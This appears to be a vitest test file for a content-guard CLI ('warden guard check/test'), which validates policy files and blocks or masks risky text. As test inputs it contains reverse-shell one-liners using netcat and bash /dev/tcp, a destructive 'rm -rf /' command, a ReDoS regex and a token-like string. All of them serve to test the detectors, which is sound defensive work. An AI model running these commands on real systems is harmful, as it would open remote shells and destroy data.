import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Command, CommanderError } from 'commander';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { useTempDir } from '../../../test/helpers.js';
import { reportError } from '../common.js';
import { guardCheckCommand, guardTestCommand } from './guard-policy.js';

let dir: string;
useTempDir((path) => (dir = path), 'warden-guard-cli-');
const example = join(import.meta.dirname, '../../../examples/guard/guard.yaml');

let out = '';
let err = '';
beforeEach(() => {
  out = '';
  err = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => ((out += String(chunk)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => ((err += String(chunk)), true));
});
afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

/** `warden guard ...` with the two commands as the coordinator registers them, exit code as main() computes it. */
async function guard(...args: string[]): Promise<number> {
  const program = new Command('warden').addCommand(new Command('guard').addCommand(guardCheckCommand()).addCommand(guardTestCommand()));
  const configure = (c: Command): void => {
    c.exitOverride();
    c.configureOutput({ writeErr: (t) => process.stderr.write(t), writeOut: (t) => process.stdout.write(t) });
    c.commands.forEach(configure);
  };
  configure(program);
  process.exitCode = undefined;
  try {
    await program.parseAsync(['node', 'warden', 'guard', ...args]);
    return Number(process.exitCode ?? 0);
  } catch (error) {
    if (error instanceof CommanderError) return error.exitCode === 0 ? 0 : 2;
    return reportError(error, false, (t) => process.stderr.write(t));
  }
}

describe('warden guard check', () => {
  it('exits 0 on a valid file and lists its policies', async () => {
    expect(await guard('check', '--policy', example)).toBe(0);
    expect(out).toContain(`${example}: valid, 3 policies, default "default"`);
    expect(out).toMatch(/strict\s+enforce\s+block >= 50\s+explain-only off/);
    expect(out).toMatch(/observe\s+shadow/);
    expect(err).toBe('');
  });

  it('--json gives the same facts, and warns about names no detector reports', async () => {
    const file = join(dir, 'typo.yaml');
    await writeFile(file, 'policies:\n  default:\n    rules:\n      - { rule: urls.ip-literal, action: mask }\n');
    expect(await guard('check', '--policy', file, '--json')).toBe(0);
    const report = JSON.parse(out);
    expect(report).toMatchObject({ valid: true, default_policy: 'default', policies: [{ id: 'default', rules: 1 }] });
    expect(report.warnings).toEqual(['policies.default.rules.0.rule: "urls.ip-literal" matches no shipped rule']);
    expect(err).toContain('warning');
  });

  it('exits 2 on an invalid file with file:line, field and message', async () => {
    const file = join(dir, 'bad.yaml');
    await writeFile(file, 'policies:\n  default:\n    allowlist:\n      - { regex: "(x+x+)+y" }\n');
    expect(await guard('check', '--policy', file)).toBe(2);
    expect(err).toContain('W_POLICY_INVALID');
    expect(err).toContain(`${file}:4: field "policies.default.allowlist.0.regex": unsafe regex (ReDoS)`);
    expect(out).toBe('');
  });

  it('exits 2 on a missing file', async () => {
    expect(await guard('check', '--policy', join(dir, 'none.yaml'))).toBe(2);
    expect(err).toContain('W_IO_NOT_FOUND');
  });
});

describe('warden guard test', () => {
  it('exits 1 when blocked and shows findings and the safe message', async () => {
    expect(await guard('test', '--policy', example, '--text', 'Run this:\n```\nnc -e /bin/sh 45.33.32.156 4444\n```', '--no-preclassifier')).toBe(1);
    expect(out).toMatch(/policy "default": BLOCKED {2}risk \d+\/100 \(blocks at 80\)/);
    expect(out).toContain('commands.reverse-shell.netcat-exec');
    expect(out).toContain('This response was withheld by the security policy.');
    expect(out).not.toContain('45.33.32.156 4444\n```\n');
  });

  it('exits 0 when allowed, with masked output; --exit-on-findings makes findings exit 1', async () => {
    const text = 'token glpat-r1vDaWE7zqUukauDtw2S here';
    expect(await guard('test', '--policy', example, '--text', text, '--no-preclassifier')).toBe(0);
    expect(out).toContain('ALLOWED');
    expect(out).toContain('token gl**********************2S here');
    out = '';
    expect(await guard('test', '--policy', example, '--text', text, '--no-preclassifier', '--exit-on-findings')).toBe(1);
  });

  it('--policy-id, --tenant, --file and --json; shadow policies exit 1 when they would block', async () => {
    const file = join(dir, 'answer.md');
    await writeFile(file, 'Write to support@acme.test please.');
    expect(await guard('test', '--policy', example, '--tenant', 'acme', '--file', file, '--json', '--no-preclassifier')).toBe(0);
    const decision = JSON.parse(out);
    expect(decision.findings[0]).toMatchObject({ rule_id: 'pii.email', action: 'allow', allowlisted: 'acme-support' });
    expect(decision.stats.scan_ms).toBeGreaterThanOrEqual(0);
    out = '';
    expect(await guard('test', '--policy', example, '--policy-id', 'observe', '--text', 'rm -rf / --no-preserve-root', '--no-preclassifier')).toBe(1);
    expect(out).toContain('SHADOW (would block)');
    expect(out).toContain('rm -rf / --no-preserve-root');
  });

  it('explains educational commands with the shipped pre-classifier (default)', async () => {
    const text = 'A reverse shell connects back to the attacker. For example, `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` redirects the shell input and output to a TCP socket.';
    expect(await guard('test', '--text', text)).toBe(0);
    expect(out).toMatch(/annotate .*commands\.reverse-shell\.dev-tcp .*educational P\(educational\)=\d\.\d\d vs 0\.7 explain-only/);
  });

  it('exits 2 on an unknown policy id or conflicting inputs', async () => {
    expect(await guard('test', '--policy', example, '--policy-id', 'nope', '--text', 'x', '--no-preclassifier')).toBe(2);
    expect(err).toContain('W_POLICY_UNKNOWN');
    err = '';
    expect(await guard('test', '--text', 'x', '--file', 'y')).toBe(2);
    expect(err).toContain('W_USAGE');
  });
});
